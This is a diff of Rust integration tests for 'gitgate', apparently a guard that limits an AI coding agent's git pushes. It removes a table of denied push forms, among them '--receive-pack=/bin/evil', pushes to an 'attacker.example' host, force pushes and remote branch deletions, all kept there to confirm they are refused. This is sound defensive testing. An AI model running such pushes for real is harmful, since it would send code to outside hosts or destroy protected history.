@@ -6,18 +6,6 @@ use std::os::unix::net::UnixStream;
 use std::path::Path;
 use std::time::Duration;
 
-fn one_gitgate_line(r: &Run) {
-    let lines: Vec<&str> = r.stderr.lines().collect();
-    assert_eq!(
-        lines.len(),
-        1,
-        "expected one line on stderr, got: {:?}",
-        r.stderr
-    );
-    assert!(lines[0].starts_with("gitgate: "), "{:?}", lines[0]);
-    assert!(r.stdout.is_empty(), "stdout: {}", r.stdout);
-}
-
 #[test]
 fn local_git_through_the_shim_is_byte_identical() {
     let agent = Agent::builder().start();
@@ -72,117 +60,33 @@ fn local_git_through_the_shim_is_byte_identical() {
     }
 }
 
-/// Every denied push form: exit 126, one clear line, and the server saw no request at all.
-#[test]
-fn denied_pushes_change_nothing_and_reach_no_server() {
-    let token = random_token();
-    let srv_root = tempfile::tempdir().unwrap();
-    let bare = init_bare(srv_root.path(), "acme", "app");
-    let server = GitHttpServer::start(srv_root.path(), &token).unwrap();
-    let agent = Agent::builder()
-        .token(&token)
-        .env("ALLOWED_HOSTS", &format!("[\"{}\"]", server.host()))
-        .env("ALLOWED_REPOS", r#"["acme/*"]"#)
-        .env("ALLOWED_BRANCH_PATTERNS", r#"["claude/*","feature/*"]"#)
-        .env("GITGATE_ALLOW_HTTP_LOOPBACK", "1")
-        .start();
-    let repo = agent.workspace_repo("app", &server.url("acme", "app"));
-    git(&repo, &["branch", "claude/x"]);
-    git(&repo, &["tag", "v1"]);
-    let before = refs_of(&bare);
-    let denied: &[(&[&str], &str)] = &[
-        (&["push", "origin", "main"], "protected"),
-        (&["push", "origin", "HEAD:main"], "protected"),
-        (&["push", "origin", "HEAD:refs/heads/main"], "protected"),
-        (&["push", "origin", "claude/x:MAIN"], "protected"),
-        (&["push", "origin", "HEAD:heads/master"], "protected"),
-        (&["push", "origin", ":claude/x"], "ALLOW_DELETE_REMOTE"),
-        (
-            &["push", "--delete", "origin", "claude/x"],
-            "ALLOW_DELETE_REMOTE",
-        ),
-        (&["push", "-d", "origin", "claude/x"], "ALLOW_DELETE_REMOTE"),
-        (&["push", "-f", "origin", "claude/x"], "ALLOW_FORCE_PUSH"),
-        (
-            &["push", "--force", "origin", "claude/x"],
-            "ALLOW_FORCE_PUSH",
-        ),
-        (&["push", "origin", "+claude/x"], "ALLOW_FORCE_PUSH"),
-        (
-            &["push", "--force-with-lease", "origin", "claude/x"],
-            "ALLOW_FORCE_PUSH",
-        ),
-        (&["push", "-uf", "origin", "claude/x"], "ALLOW_FORCE_PUSH"),
-        (&["push", "--forc", "origin", "claude/x"], "ambiguous"),
-        (
-            &["push", "--dele", "origin", "claude/x"],
-            "ALLOW_DELETE_REMOTE",
-        ),
-        (&["push", "--mirror", "origin"], "mirror"),
-        (&["push", "--mirr", "origin"], "mirror"),
-        (&["push", "--all", "origin"], "protected"),
-        (&["push", "--tags", "origin"], "ALLOW_TAG_PUSH"),
-        (&["push", "origin", "v1"], "ALLOW_TAG_PUSH"),
-        (&["push", "origin", "HEAD:refs/tags/x"], "ALLOW_TAG_PUSH"),
-        (&["push", "origin", "HEAD:wip/x"], "ALLOWED_BRANCH_PATTERNS"),
-        (
-            &["push", "origin", "HEAD:claude/x/y"],
-            "ALLOWED_BRANCH_PATTERNS",
-        ),
-        (
-            &["push", "--receive-pack=/bin/evil", "origin", "claude/x"],
-            "receive-pack",
-        ),
-        (
-            &["push", "--frobnicate", "origin", "claude/x"],
-            "unknown option",
-        ),
-        (
-            &["push", "--repo=https://attacker.example/acme/app.git"],
-            "ALLOWED_HOSTS",
-        ),
-        (
-            &["push", "https://attacker.example/acme/app.git", "claude/x"],
-            "ALLOWED_HOSTS",
-        ),
-        (&["push", "origin", "HEAD:refs/notes/x"], "refs/notes/x"),
-        (&["push"], "protected"),
-    ];
-    for (args, why) in denied {
-        let r = agent.run("git", &repo, args);
-        assert_eq!(r.code, 126, "git {args:?}: {r:?}");
-        one_gitgate_line(&r);
-        assert!(
-            r.stderr.contains(why),
-            "git {args:?}: expected '{why}' in {:?}",
-            r.stderr
-        );
-        assert_eq!(refs_of(&bare), before, "git {args:?} changed the remote");
-    }
-    assert_eq!(
-        server.request_count(),
-        0,
-        "a denied push reached the server: {:?}",
-        server.requests()
-    );
-}
+// v2's argv-level denial table lives on as tests/tests/transport.rs (refusals on the wire).
 
 #[test]
 fn unreachable_agent_exits_127_naming_the_socket() {
     let mut agent = Agent::builder().start();
     let repo = agent.workspace_repo("app", "https://github.com/acme/app.git");
     agent.stop();
-    for (tool, args) in [("git", &["push"][..]), ("agent-status", &[])] {
-        let r = agent.run(tool, &repo, args);
-        assert_eq!(r.code, 127, "{tool}: {r:?}");
-        assert_eq!(
-            r.stderr.trim_end(),
-            format!(
-                "gitgate: cannot reach the agent at {} (start it: ./run.sh; check: ./run.sh --status)",
-                agent.socket.display()
-            )
-        );
-    }
+    let (tool, args) = ("agent-status", &[][..]);
+    let r = agent.run(tool, &repo, args);
+    assert_eq!(r.code, 127, "{tool}: {r:?}");
+    assert_eq!(
+        r.stderr.trim_end(),
+        format!(
+            "gitgate: cannot reach the agent at {} (start it: ./run.sh; check: ./run.sh --status)",
+            agent.socket.display()
+        )
+    );
+    // git: its transport helper says it the way git's own helpers fail, and git exits 128.
+    let r = agent.run("git", &repo, &["ls-remote", "origin"]);
+    assert_eq!(r.code, 128, "{r:?}");
+    assert_eq!(
+        r.stderr.trim_end(),
+        format!(
+            "fatal: gitgate: cannot reach the agent at {} (start it: ./run.sh; check: ./run.sh --status)",
+            agent.socket.display()
+        )
+    );
 }
 
 #[test]
@@ -194,26 +98,6 @@ fn peer_uid_not_allowed_is_refused() {
     let r = agent.run("agent-status", &agent.workspace, &[]);
     assert_eq!(r.code, 126, "{r:?}");
     assert!(r.stderr.contains("ALLOWED_UIDS"), "{}", r.stderr);
-}
-
-#[test]
-fn cwd_outside_the_workspace_is_refused() {
-    let agent = Agent::builder()
-        .env("ALLOWED_REPOS", r#"["acme/*"]"#)
-        .start();
-    let outside = tempfile::tempdir().unwrap();
-    git(outside.path(), &["init", "-q", "-b", "main"]);
-    git(
-        outside.path(),
-        &["commit", "-q", "--allow-empty", "-m", "x"],
-    );
-    git(
-        outside.path(),
-        &["remote", "add", "origin", "https://github.com/acme/app.git"],
-    );
-    let r = agent.run("git", outside.path(), &["push", "origin", "HEAD:claude/x"]);
-    assert_eq!(r.code, 126, "{r:?}");
-    assert!(r.stderr.contains("outside the workspace"), "{}", r.stderr);
 }
 
 #[test]
@@ -409,7 +293,7 @@ fn thousands_of_simultaneous_clients() {
     ))
     .encode();
     let mut first = hello.clone();
-    first.extend_from_slice(&gitgate_proto::Frame::StdinEof.encode());
+    first.extend_from_slice(&gitgate_proto::Frame::DataEof.encode());
     let mut conns = Vec::new();
     for _ in 0..2000 {
         match UnixStream::connect(&agent.socket) {
